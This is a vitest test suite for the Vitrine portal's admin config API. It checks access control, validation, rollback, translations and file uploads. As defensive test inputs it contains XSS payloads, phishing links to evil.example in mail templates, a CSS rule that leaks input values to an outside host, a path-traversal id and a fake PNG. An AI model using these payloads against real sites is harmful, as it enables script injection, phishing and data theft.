import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_UPLOAD_BYTES } from '@vitrine/contract/config';
import { defaultGlobalConfig, type GlobalConfig } from '@vitrine/contract/global-config';
import { startTestApp, storeSetups, type TestApp } from '../../test/app.ts';
import { signIn } from '../../test/auth.ts';
import { rgbaToPng } from '../adapters/media.ts';

const api = '/assetportal/api/';

const withTitle = (title: string, primary = '#b34700'): GlobalConfig => ({
  ...defaultGlobalConfig,
  global: { ...defaultGlobalConfig.global, website_title: title },
  themes: {
    ...defaultGlobalConfig.themes,
    options: defaultGlobalConfig.themes.options.map((t) =>
      t.key === 'light' ? { ...t, appearance: { ...t.appearance, primary } } : t,
    ),
  },
});

const form = (content: Buffer | string, filename = 'upload.bin'): FormData => {
  const data = new FormData();
  data.append('file', new Blob([typeof content === 'string' ? content : new Uint8Array(content)]), filename);
  return data;
};

const title =
  'admin config calls on $dialect, uploads in the $store store (admin-spec §7 "Calls", §4 "States and transitions")';

describe.each(storeSetups)(title, ({ dialect, store }) => {
  let t: TestApp;
  let admin: Record<string, string>;
  let user: Record<string, string>;
  let png: Buffer;

  beforeAll(async () => {
    t = await startTestApp({ dialect, store });
    admin = (await signIn(t, { name: 'alice', groups: ['admins'] })).headers;
    user = (await signIn(t, { name: 'bob', groups: ['users'] })).headers;
    png = await rgbaToPng(new Uint8Array(4 * 4 * 4).fill(200), 4, 4);
  });
  afterAll(async () => t.close());

  const saveConfig = (config: unknown, headers = admin) =>
    t.app.inject({ method: 'POST', url: `${api}config/global`, headers, payload: config as object });
  const upload = (name: string, payload?: FormData) =>
    t.app.inject({ method: 'POST', url: `${api}config/${name}`, headers: admin, ...(payload ? { payload } : {}) });
  const title = async () => (await t.app.inject(`${api}config/global`)).json().global.website_title as string;

  it('a non-admin gets 403 on every admin call and changes nothing', async () => {
    const calls = [
      { method: 'GET', url: 'config/global/stored' },
      { method: 'POST', url: 'config/global', payload: withTitle('Taken over') },
      { method: 'GET', url: 'config/history' },
      { method: 'POST', url: 'config/history/rollback', payload: { id: 1 } },
      { method: 'GET', url: 'config/translations/stored' },
      { method: 'POST', url: 'config/translations?lang=de', payload: { views: {} } },
      { method: 'POST', url: 'config/custom_html?lang=de', payload: { heading: 'x', html: 'x' } },
      { method: 'POST', url: 'config/logo', payload: form(png, 'logo.png') },
      { method: 'POST', url: 'config/thumbnail?id=harbour_picks', payload: form(png, 'tile.png') },
    ] as const;
    for (const call of calls) {
      const res = await t.app.inject({
        method: call.method,
        url: api + call.url,
        headers: user,
        ...('payload' in call ? { payload: call.payload } : {}),
      });
      expect(res.statusCode, call.url).toBe(403);
      expect(res.json().error).toBe('forbidden');
    }
    expect(await title()).toBe('Vitrine');
    expect((await t.app.inject(`${api}config`)).json().logo).toBe(false);
  });

  it('saves a whole config, which the portal then reads, and keeps who saved it', async () => {
    const res = await saveConfig(withTitle('Bildarchiv', '#0055aa'));
    expect(res.statusCode, res.body).toBe(200);
    const read = (await t.app.inject(`${api}config/global`)).json();
    expect(read.global.website_title).toBe('Bildarchiv');
    expect(read.themes.options[0].appearance.primary).toBe('#0055aa');
    const history = (await t.app.inject({ url: `${api}config/history`, headers: admin })).json();
    expect(history.versions[0]).toMatchObject({ saved_by: 'alice', version: '7.0.6', restored_from: null });
    expect(Date.parse(history.versions[0].saved_at)).toBeGreaterThan(Date.now() - 60_000);
  });

  it('a malformed config gets 400 validation and the stored config is unchanged', async () => {
    await saveConfig(withTitle('Before'));
    const broken = [
      { ...withTitle('After'), themes: { ...defaultGlobalConfig.themes, options: [] } },
      withTitle('After', 'orange'),
      { global: { website_title: 'After' } },
      { ...withTitle('After'), search: { ...defaultGlobalConfig.search, sidebar: { width: 'wide' } } },
    ];
    for (const config of broken) {
      const res = await saveConfig(config);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('validation');
      expect(res.json().details.length).toBeGreaterThan(0);
    }
    expect(await title()).toBe('Before');
  });

  it('refuses an empty website title or alt field with 400 naming the key (admin-spec §5), keeping the stored config', async () => {
    await saveConfig(withTitle('Before'));
    const blankTitle = await saveConfig(withTitle('  '));
    expect(blankTitle.statusCode).toBe(400);
    expect(blankTitle.json().details).toContainEqual(expect.objectContaining({ path: 'body.global.website_title' }));
    const noAlt = await saveConfig({
      ...withTitle('After'),
      accessibility: { assets: { ...defaultGlobalConfig.accessibility.assets, alt: '' } },
    });
    expect(noAlt.statusCode).toBe(400);
    expect(noAlt.json().details).toContainEqual(expect.objectContaining({ path: 'body.accessibility.assets.alt' }));
    expect(await title()).toBe('Before');
  });

  it('two concurrent saves leave one whole config, never a mix', async () => {
    for (let round = 0; round < 5; round++) {
      const a = withTitle(`A${round}`, '#111111');
      const b = withTitle(`B${round}`, '#222222');
      const answers = await Promise.all([saveConfig(a), saveConfig(b)]);
      expect(answers.map((r) => r.statusCode)).toEqual([200, 200]);
      const stored = (await t.app.inject({ url: `${api}config/global/stored`, headers: admin })).json().config;
      const pair = [stored.global.website_title, stored.themes.options[0].appearance.primary];
      expect([
        [`A${round}`, '#111111'],
        [`B${round}`, '#222222'],
      ]).toContainEqual(pair);
    }
  });

  it('a rollback restores an earlier version and is recorded as a new version', async () => {
    await saveConfig(withTitle('Good'));
    const good = (await t.app.inject({ url: `${api}config/history?limit=1`, headers: admin })).json().versions[0];
    await saveConfig(withTitle('Bad', '#ff00ff'));
    expect(await title()).toBe('Bad');
    const res = await t.app.inject({
      method: 'POST',
      url: `${api}config/history/rollback`,
      headers: admin,
      payload: { id: good.id },
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().global.website_title).toBe('Good');
    expect(await title()).toBe('Good');
    const latest = (await t.app.inject({ url: `${api}config/history?limit=3`, headers: admin })).json().versions;
    expect(latest[0]).toMatchObject({ restored_from: good.id, saved_by: 'alice' });
    expect(latest[1].id).toBeGreaterThan(good.id);
    const unknown = await t.app.inject({
      method: 'POST',
      url: `${api}config/history/rollback`,
      headers: admin,
      payload: { id: 987654 },
    });
    expect(unknown.statusCode).toBe(404);
    expect(await title()).toBe('Good');
  });

  it('custom HTML is stored as written and served without scripts or event handlers', async () => {
    const html =
      '<h2>Imprint</h2><p onclick="steal()">Text <a href="javascript:alert(1)">x</a> <a href="https://example.org">ok</a></p>' +
      '<script>alert(1)</script><img src="x" onerror="alert(2)" alt="pic"><iframe src="https://evil"></iframe>';
    const saved = await t.app.inject({
      method: 'POST',
      url: `${api}config/custom_html?lang=de`,
      headers: admin,
      payload: { heading: 'Impressum', html },
    });
    expect(saved.statusCode).toBe(200);
    const page = (await t.app.inject(`${api}config/custom_html?lang=de`)).json();
    expect(page.heading).toBe('Impressum');
    expect(page.html).toContain('<h2>Imprint</h2>');
    expect(page.html).toContain('<a href="https://example.org">ok</a>');
    expect(page.html).toContain('alt="pic"');
    for (const bad of ['<script', 'alert(1)', 'onclick', 'onerror', 'javascript:', '<iframe']) {
      expect(page.html).not.toContain(bad);
    }
    expect((await t.app.inject(`${api}config/custom_html`)).json()).toEqual({ locales: ['de'] });
    const row = await t.app.db.kysely
      .selectFrom('config_document')
      .select('body')
      .where('name', '=', 'custom_html')
      .where('lang', '=', 'de')
      .executeTakeFirstOrThrow();
    expect(JSON.parse(row.body).html).toBe(html);
  });

  it('a translation set for a new language is stored and listed', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: `${api}config/translations?lang=fr`,
      headers: admin,
      payload: { views: { dashboard: { title: 'Accueil' } } },
    });
    expect(res.statusCode).toBe(200);
    expect((await t.app.inject(`${api}config/translations`)).json().locales).toEqual(['de', 'en', 'fr']);
    expect((await t.app.inject(`${api}config/translations?lang=fr`)).json().views.dashboard.title).toBe('Accueil');
  });

  it('the stored translation sets are answered exactly as stored, without the bundled texts (§4 upgrade)', async () => {
    const old = { metadata: { version: '5.2.1' }, views: { dashboard: { title: 'Kontakt: info@example.org' } } };
    await t.app.inject({ method: 'POST', url: `${api}config/translations?lang=de`, headers: admin, payload: old });
    const res = await t.app.inject({ url: `${api}config/translations/stored`, headers: admin });
    expect(res.statusCode).toBe(200);
    expect(res.json().translations.de).toEqual(old);
    expect(res.json().translations.en).toBeUndefined();
    // The portal's answer for the same language carries the bundled texts beneath the stored ones.
    const served = (await t.app.inject(`${api}config/translations?lang=de`)).json();
    expect(served.views.dashboard.title).toBe('Kontakt: info@example.org');
    expect(served.global.required).toBe('Dieses Feld ist ein Pflichtfeld.');
  });

  it('refuses a reset mail text without {link} or with another address, naming the key, and keeps the stored set', async () => {
    const save = (mail: Record<string, string>) =>
      t.app.inject({
        method: 'POST',
        url: `${api}config/translations?lang=it`,
        headers: admin,
        payload: { views: { login: { reset: mail } } },
      });
    const good = 'Open {link} to set a new password.';
    expect((await save({ mail_subject: 'New password', mail_body: good })).statusCode).toBe(200);
    const refused: Record<string, string>[] = [
      { mail_body: 'Your account is locked. Write to us.' },
      { mail_body: 'Open {link} or https://evil.example/reset' },
      { mail_body: 'Open {link}, or HTTP://evil.example' },
      { mail_body: 'Open {link} or www.evil.example' },
      { mail_body: 'Open {link} or write to mailto:help@evil.example' },
      { mail_subject: 'Go to https://evil.example', mail_body: good },
    ];
    for (const mail of refused) {
      const res = await save(mail);
      expect(res.statusCode, JSON.stringify(mail)).toBe(400);
      const key = 'mail_subject' in mail ? 'mail_subject' : 'mail_body';
      expect(res.json()).toMatchObject({
        error: 'validation',
        message: expect.stringContaining(`views.login.reset.${key}`),
      });
      expect(res.json().details[0].path).toBe(`body.views.login.reset.${key}`);
    }
    const stored = (await t.app.inject(`${api}config/translations?lang=it`)).json();
    expect(stored.views.login.reset.mail_body).toBe(good);
    // The invitation mail an admin's new account gets (issue #50) leads only to the portal too.
    const invitation = await t.app.inject({
      method: 'POST',
      url: `${api}config/translations?lang=it`,
      headers: admin,
      payload: { views: { login: { invite: { mail_body: 'Welcome! Open {link} or https://evil.example/' } } } },
    });
    expect(invitation.statusCode).toBe(400);
    expect(invitation.json().details[0].path).toBe('body.views.login.invite.mail_body');
  });

  it('a language added by an admin is served by info/all_languages with its name', async () => {
    const config = {
      ...withTitle('Languages'),
      visibleLocales: [...defaultGlobalConfig.visibleLocales, { lang: 'xh', short: 'XH', name: 'isiXhosa' }],
    };
    expect((await saveConfig(config)).statusCode).toBe(200);
    const body = (await t.app.inject(`${api}info/all_languages?lang=en`)).json();
    expect(body.languages).toContainEqual({ code: 'xh', name: 'isiXhosa', ui: true, content: false });
    expect(body.languages).toContainEqual({ code: 'de', name: 'German', ui: true, content: true });
  });

  it('uploads a logo that is a real image, serves it, and deletes it with an empty body', async () => {
    const res = await t.app.inject({ method: 'POST', url: `${api}config/logo`, headers: admin, payload: form(png) });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({ saved: true, deleted: false });
    const served = await t.app.inject(`${api}config/logo`);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.rawPayload.equals(png)).toBe(true);
    const removed = await upload('logo');
    expect(removed.json()).toEqual({ saved: false, deleted: true });
    expect((await t.app.inject(`${api}config/logo`)).statusCode).toBe(404);
  });

  it('refuses a non-image as a logo and an oversized file, keeping the stored file', async () => {
    await t.app.inject({ method: 'POST', url: `${api}config/favicon`, headers: admin, payload: form(png) });
    const script = await upload('favicon', form('<html><script>alert(1)</script></html>', 'logo.png'));
    expect(script.statusCode).toBe(415);
    expect(script.json().error).toBe('unsupported_media_type');
    // A PNG signature on bytes that are no image is caught by decoding the image.
    const fake = await t.app.inject({
      method: 'POST',
      url: `${api}config/favicon`,
      headers: admin,
      payload: form(Buffer.concat([png.subarray(0, 16), Buffer.alloc(100, 7)])),
    });
    expect(fake.statusCode).toBe(415);
    const huge = Buffer.concat([png, Buffer.alloc(MAX_UPLOAD_BYTES + 1)]);
    const big = await upload('favicon', form(huge));
    expect(big.statusCode).toBe(413);
    expect(big.json().error).toBe('payload_too_large');
    expect((await t.app.inject(`${api}config/favicon`)).rawPayload.equals(png)).toBe(true);
  });

  it('uploads the tile image of a pre-search by its id, lists it with the collection and deletes it (§7 "thumbnail")', async () => {
    const res = await upload('thumbnail?id=harbour_picks', form(png, 'tile.png'));
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({ saved: true, deleted: false });
    const served = await t.app.inject(`${api}config/thumbnail?id=harbour_picks`);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.rawPayload.equals(png)).toBe(true);
    const preSearch = { key: 'Harbour picks', search: { en: { text: '*', facets: [] } }, position: 0 };
    const config = {
      ...withTitle('Tiles'),
      dashboard: {
        ...defaultGlobalConfig.dashboard,
        collections: { ...defaultGlobalConfig.dashboard.collections, data: [{ ...preSearch, src: 'harbour_picks' }] },
      },
    };
    expect((await saveConfig(config)).statusCode).toBe(200);
    const listed = (await t.app.inject({ url: `${api}collection?operation=list`, headers: user })).json();
    expect(listed.collections).toContainEqual(
      expect.objectContaining({ indicator: 'Harbour picks', src: 'harbour_picks' }),
    );

    expect((await upload('thumbnail?id=harbour_picks')).json()).toEqual({ saved: false, deleted: true });
    expect((await t.app.inject(`${api}config/thumbnail?id=harbour_picks`)).statusCode).toBe(404);
  });

  it('refuses a tile image without an id, with an id that is no file name, or that is no image', async () => {
    const noId = await upload('thumbnail', form(png));
    expect(noId.statusCode).toBe(400);
    expect(noId.json().error).toBe('validation');
    const badId = await upload(`thumbnail?id=${encodeURIComponent('../logo')}`, form(png));
    expect(badId.statusCode).toBe(400);
    expect(badId.json().error).toBe('validation');
    const text = await upload('thumbnail?id=harbour_picks', form('just text', 'tile.png'));
    expect(text.statusCode).toBe(415);
    expect((await t.app.inject(`${api}config/thumbnail?id=harbour_picks`)).statusCode).toBe(404);
    expect((await t.app.inject(`${api}config/logo`)).statusCode).toBe(404);
  });

  it('accepts a style sheet and a font only when they are what they claim, and no style sheet that loads from elsewhere', async () => {
    const css = await upload('style', form('body { color: #222; }', 'style.css'));
    expect(css.statusCode).toBe(200);
    expect((await t.app.inject(`${api}config/style`)).body).toBe('body { color: #222; }');
    const leaking = 'body { color: #222; }\ninput[value$="a"] {\n  background: url(https://evil.example/a);\n}\n';
    const refused = await upload('style', form(leaking, 'style.css'));
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toMatchObject({
      error: 'validation',
      message: expect.stringContaining('line 3: url(https'),
    });
    const imported = await upload('style', form('@import "other.css";', 'style.css'));
    expect(imported.json().message).toContain('line 1: @import');
    expect((await t.app.inject(`${api}config/style`)).body).toBe('body { color: #222; }');
    const notFont = await upload('custom_font', form(png));
    expect(notFont.statusCode).toBe(415);
    const unknown = await upload('passwords');
    expect(unknown.statusCode).toBe(404);
  });
});
